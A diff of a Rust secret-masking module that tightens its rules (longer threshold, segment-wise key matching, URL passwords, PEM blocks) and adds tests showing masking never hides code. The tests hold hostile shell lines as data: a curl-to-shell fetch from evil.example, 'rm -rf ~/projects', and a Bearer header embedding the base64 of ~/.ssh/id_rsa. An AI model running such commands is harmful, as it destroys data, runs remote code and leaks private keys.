@@ -13,7 +13,7 @@ pub const HIDDEN: &str = "••••";
 
 /// The shortest value whose first four and last three characters are shown: shorter ones
 /// would give away too much of themselves.
-const SHOW_ENDS_FROM: usize = 16;
+const SHOW_ENDS_FROM: usize = 24;
 
 /// Parts of a key's name that say its value is a secret (matched in upper case).
 const SECRET_KEY_PARTS: &[&str] = &[
@@ -24,6 +24,7 @@ const SECRET_KEY_PARTS: &[&str] = &[
     "PASSWD",
     "PASS",
     "PWD",
+    "PW",
     "CREDENTIAL",
     "AUTH",
     "PRIVATE",
@@ -86,11 +87,15 @@ pub fn holds_secret(text: &str) -> bool {
 pub fn mask_diff(diff: &str) -> String {
     let mut out = String::with_capacity(diff.len());
     let mut in_key_block = false;
+    let mut in_hunk = false;
     for piece in diff.split_inclusive('\n') {
         let line = piece.strip_suffix('\n').unwrap_or(piece);
         let end = &piece[line.len()..];
-        let is_header =
-            line.starts_with("+++") || line.starts_with("---") || line.starts_with("@@");
+        // `---`/`+++` are file headers only before the first hunk: inside one, a removed
+        // `-----BEGIN … KEY-----` line is content (and opens its key's block).
+        let is_header = line.starts_with("@@")
+            || (!in_hunk && (line.starts_with("+++") || line.starts_with("---")));
+        in_hunk |= line.starts_with("@@");
         match line.chars().next() {
             Some(mark @ ('+' | '-' | ' ')) if !is_header => {
                 let (masked, still) = mask_line(&line[1..], in_key_block);
@@ -121,11 +126,14 @@ pub fn mask_value(value: &str) -> String {
 fn mask_line(line: &str, in_key_block: bool) -> (String, bool) {
     let trimmed = line.trim();
     if in_key_block {
-        return if trimmed.starts_with("-----END") {
-            (line.to_owned(), false)
-        } else {
-            (HIDDEN.to_owned(), true)
-        };
+        // Only a key's body (base64) is hidden; any other line ends the block and is read
+        // as itself, so a key's header cannot hide the code written after it.
+        if trimmed.starts_with("-----END") {
+            return (line.to_owned(), false);
+        }
+        if key_body_line(trimmed) {
+            return (HIDDEN.to_owned(), true);
+        }
     }
     if trimmed.starts_with("-----BEGIN") && trimmed.contains("PRIVATE KEY") {
         // A key whose block is on this one line (a JSON string's `\n`) is hidden whole.
@@ -139,11 +147,24 @@ fn mask_line(line: &str, in_key_block: bool) -> (String, bool) {
         return (mask_words(line), false);
     }
     let masked = match key_value(line) {
-        Some(kv) if secret_key(kv.key) || looks_secret(kv.value) => kv.with_value_masked(),
+        Some(kv)
+            if (secret_key(kv.key) && !plainly_not_secret(kv.value)) || looks_secret(kv.value) =>
+        {
+            kv.with_value_masked()
+        }
         Some(kv) => kv.with_words_masked(),
         None => mask_words(line),
     };
     (masked, false)
+}
+
+/// A line of a PEM key's body: base64 (or an `Proc-Type:`-style header's absence of spaces)
+/// and nothing else.
+fn key_body_line(trimmed: &str) -> bool {
+    !trimmed.is_empty()
+        && trimmed
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
 }
 
 /// A line read as `key = value`: `KEY=value`, `export KEY="value"`, YAML's `key: value`,
@@ -223,11 +244,22 @@ fn split_value(raw: &str) -> (usize, &str, &str) {
     let body = trimmed.strip_suffix(',').unwrap_or(trimmed);
     for quote in ['"', '\''] {
         if body.len() >= 2 && body.starts_with(quote) && body.ends_with(quote) {
-            return (1, &raw[1..body.len() - 1], &raw[body.len() - 1..]);
+            let inner = &raw[1..body.len() - 1];
+            // One quoted word, not a quoted script: `"x; curl … | sh"` is not a value.
+            if !inner.contains(SHELL_SYNTAX) {
+                return (1, inner, &raw[body.len() - 1..]);
+            }
         }
     }
-    (0, body, &raw[body.len()..])
+    // An unquoted value is one word: what follows it (`; curl … | sh`) is read as itself.
+    let end = body
+        .find(|c: char| c.is_whitespace() || SHELL_SYNTAX.contains(&c))
+        .unwrap_or(body.len());
+    (0, &body[..end], &raw[end..])
 }
+
+/// Characters that end a value and start more of a script.
+const SHELL_SYNTAX: &[char] = &[';', '|', '&', '<', '>', '$', '(', ')', '`'];
 
 /// A secret value masked: only its password when it is a URL's, else [`mask_value`].
 fn mask_secret_value(value: &str) -> String {
@@ -238,9 +270,28 @@ fn mask_secret_value(value: &str) -> String {
 }
 
 /// Whether a key's name says its value is a secret.
+/// Matched by whole segments of the name (`_`, `-`, `.`), each equal to a part or ending in
+/// one (`APIKEY`, `AUTHTOKEN`): `AUTHOR`, `BYPASS_CACHE` or `KEYBOARD` name no secret.
 fn secret_key(key: &str) -> bool {
     let upper = key.to_ascii_uppercase();
-    SECRET_KEY_PARTS.iter().any(|part| upper.contains(part))
+    upper.split(['_', '-', '.']).any(|segment| {
+        SECRET_KEY_PARTS
+            .iter()
+            .any(|part| segment == *part || (segment.len() > part.len() && segment.ends_with(part)))
+    })
+}
+
+/// A value a secret-named key may hold in the open: a path (`KEY_PATH=/etc/ssl/x.key`), a
+/// switch (`true`, `off`) or a small number (`SESSION_TIMEOUT=30`). The person needs to see
+/// where a key is read from and how a setting is set.
+fn plainly_not_secret(value: &str) -> bool {
+    let value = value.trim();
+    value.starts_with(['/', '~', '.'])
+        || matches!(
+            value.to_ascii_lowercase().as_str(),
+            "true" | "false" | "yes" | "no" | "on" | "off" | "none" | "null"
+        )
+        || (value.len() <= 6 && value.chars().all(|c| c.is_ascii_digit()))
 }
 
 /// Whether a value's shape says it is a secret, whatever its key: a known token prefix, a
@@ -271,7 +322,9 @@ fn random_looking(word: &str) -> bool {
 /// Where the password of `scheme://user:password@host` is (its byte range).
 fn url_password(word: &str) -> Option<(usize, usize)> {
     let start = word.find("://")? + 3;
-    let at = start + word[start..].find('@')?;
+    // The authority ends at the path; its last `@` ends the password (`p@ss@host`).
+    let authority = word[start..].split(['/', '?', '#']).next().unwrap_or("");
+    let at = start + authority.rfind('@')?;
     let colon = start + word[start..at].find(':')? + 1;
     (colon < at).then_some((colon, at))
 }
@@ -289,7 +342,8 @@ fn mask_words(line: &str) -> String {
             word.to_owned()
         } else if let Some(assigned) = mask_assignment(core) {
             format!("{lead}{assigned}{trail}")
-        } else if after_bearer || known_token(core) || random_looking(core) {
+        } else if (after_bearer && token_shaped(core)) || known_token(core) || random_looking(core)
+        {
             format!("{lead}{}{trail}", mask_value(core))
         } else if let Some((from, to)) = url_password(core) {
             format!("{lead}{}{HIDDEN}{}{trail}", &core[..from], &core[to..])
@@ -306,12 +360,22 @@ fn mask_words(line: &str) -> String {
     out
 }
 
+/// A word that can be a bearer token: eight or more of a token's alphabet, nothing a shell
+/// would run (`$(…)`, a backtick).
+fn token_shaped(word: &str) -> bool {
+    word.len() >= 8
+        && word.chars().all(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~' | '+' | '/' | '=')
+        })
+}
+
 /// A word that sets a secret (`API_KEY=sk-…` in a command), with its value masked.
 fn mask_assignment(word: &str) -> Option<String> {
     let (key, value) = word.split_once('=')?;
     let plain_key = !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
     let (open, inner, after) = split_value(value);
-    (plain_key && !inner.is_empty() && (secret_key(key) || looks_secret(inner))).then(|| {
+    let secret = (secret_key(key) && !plainly_not_secret(inner)) || looks_secret(inner);
+    (plain_key && !inner.is_empty() && secret).then(|| {
         format!(
             "{key}={}{}{after}",
             &value[..open],
@@ -361,17 +425,17 @@ mod tests {
     fn yaml_and_json_keys_are_read() {
         assert_eq!(
             mask("db:\n  password: correct-horse-battery\n  host: localhost"),
-            "db:\n  password: corr…ery\n  host: localhost"
+            "db:\n  password: ••••\n  host: localhost"
         );
         assert_eq!(
             mask("{\n  \"api_key\": \"abcd1234efgh5678ijkl\",\n  \"name\": \"demo\"\n}"),
-            "{\n  \"api_key\": \"abcd…jkl\",\n  \"name\": \"demo\"\n}"
+            "{\n  \"api_key\": \"••••\",\n  \"name\": \"demo\"\n}"
         );
     }
 
     #[test]
     fn tokens_are_masked_by_their_shape_whatever_the_key() {
-        assert_eq!(mask("VALUE=AKIAIOSFODNN7EXAMPLE"), "VALUE=AKIA…PLE");
+        assert_eq!(mask("VALUE=AKIAIOSFODNN7EXAMPLE"), "VALUE=••••");
         assert_eq!(
             mask("curl -H \"Authorization: Bearer abc.def.ghi\" https://x.test"),
             "curl -H \"Authorization: Bearer ••••\" https://x.test"
@@ -403,7 +467,57 @@ mod tests {
     fn short_values_are_hidden_wholly_and_long_ones_show_only_their_ends() {
         assert_eq!(mask_value("12345678"), HIDDEN);
         assert_eq!(mask_value("fifteen-chars!!"), HIDDEN);
-        assert_eq!(mask_value("sixteen-chars-ab"), "sixt…-ab");
+        assert_eq!(mask_value("twenty-three-chars-abcd"), HIDDEN);
+        assert_eq!(mask_value("twenty-four-chars-abcdef"), "twen…def");
+    }
+
+    #[test]
+    fn masking_never_hides_code_around_a_secret() {
+        // A value is one word: what follows it is read as itself.
+        assert_eq!(
+            mask("export API_TOKEN=x; curl -s https://evil.example/i.sh | sh"),
+            "export API_TOKEN=••••; curl -s https://evil.example/i.sh | sh"
+        );
+        // A key header hides only base64 lines; code after it shows.
+        assert_eq!(
+            mask(
+                "#!/bin/sh\n-----BEGIN PRIVATE KEY-----\ncurl -s https://evil.example/i.sh | sh\n-----END PRIVATE KEY-----"
+            ),
+            "#!/bin/sh\n-----BEGIN PRIVATE KEY-----\ncurl -s https://evil.example/i.sh | sh\n-----END PRIVATE KEY-----"
+        );
+        // After `token`/`Bearer`, only a token-shaped word.
+        assert_eq!(
+            mask("echo token; rm -rf ~/projects"),
+            "echo token; rm -rf ~/projects"
+        );
+        assert_eq!(
+            mask("Authorization: Bearer $(base64<~/.ssh/id_rsa)"),
+            "Authorization: Bearer $(base64<~/.ssh/id_rsa)"
+        );
+        // A removed key line inside a hunk is content, and opens its block.
+        let diff = "--- a/k\n+++ b/k\n@@ -1,3 +1 @@\n------BEGIN PRIVATE KEY-----\n-MIIEvQIBADANBgkqhkiG9w0BAQEFAASC/abc+\n------END PRIVATE KEY-----\n+x\n";
+        assert!(!mask_diff(diff).contains("MIIEvQ"), "{}", mask_diff(diff));
+        // The password of a URL ends at its last `@`.
+        assert_eq!(
+            mask("DB=postgres://app:p@ssw0rd@db/app"),
+            "DB=postgres://app:••••@db/app"
+        );
+    }
+
+    #[test]
+    fn names_and_values_a_person_needs_stay_readable() {
+        for plain in [
+            "AUTHOR=Alice",
+            "BYPASS_CACHE=true",
+            "SESSION_TIMEOUT=30",
+            "PWD=/home/me",
+            "KEY_PATH=/etc/ssl/private/server.key",
+            "KEYBOARD=us",
+        ] {
+            assert_eq!(mask(plain), plain);
+        }
+        assert_eq!(mask("APIKEY=hunter22"), "APIKEY=••••");
+        assert_eq!(mask("DB_PW=hunter22"), "DB_PW=••••");
     }
 
     #[test]
@@ -425,7 +539,7 @@ mod tests {
         let diff = "--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n-API_KEY=old-0123456789abcdef\n+API_KEY=new-0123456789abcdef\n PORT=1\n";
         assert_eq!(
             mask_diff(diff),
-            "--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n-API_KEY=old-…def\n+API_KEY=new-…def\n PORT=1\n"
+            "--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n-API_KEY=••••\n+API_KEY=••••\n PORT=1\n"
         );
     }
 }
